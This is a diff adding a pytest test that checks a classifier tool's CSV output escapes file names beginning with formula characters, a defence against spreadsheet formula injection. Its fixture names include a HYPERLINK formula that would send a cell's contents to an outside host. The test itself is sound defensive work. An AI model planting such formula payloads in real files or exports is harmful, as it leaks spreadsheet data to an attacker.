@@ -407,6 +407,33 @@ def test_a_class_name_a_spreadsheet_would_run_is_written_as_text(
     assert not any(cell.startswith("=") for row in rows for cell in row)
 
 
+def test_a_file_name_a_spreadsheet_would_run_is_written_as_text(
+    package: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """The `file` column was written as it stood while class names were
+    neutralised: a scan named '=HYPERLINK("https:x.org?"&B2).png' (a name a
+    PACS export or a colleague's archive chose), predicted from its own folder
+    (`predict --model M .`), or an .npz so named, put a formula in the clinic's
+    spreadsheet. A file name starting with = + - @, a tab or a carriage return
+    gets the apostrophe a class name gets; others are unchanged."""
+    folder = tmp_path / "scans"
+    folder.mkdir()
+    names = ['=HYPERLINK("https:x.org?"&B2).png', "+1.png", "-2.png", "@SUM(1).png", "\tx.png"]
+    for name in names:
+        _png(folder / name)
+    _png(folder / "plain.png")
+    np.savez(folder / "=npz.npz", images=np.zeros((1, 8, 8), dtype=np.uint8))
+    monkeypatch.chdir(folder)
+    assert main(["predict", "--model", str(package), "."]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    files = sorted(row[0] for row in rows[1:])
+    expected = sorted(["'" + name for name in names] + ["plain.png", "'=npz.npz[0]"])
+    assert files == expected, files
+
+
 def test_an_onnx_file_larger_than_protobuf_allows_is_refused_unread(
     package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
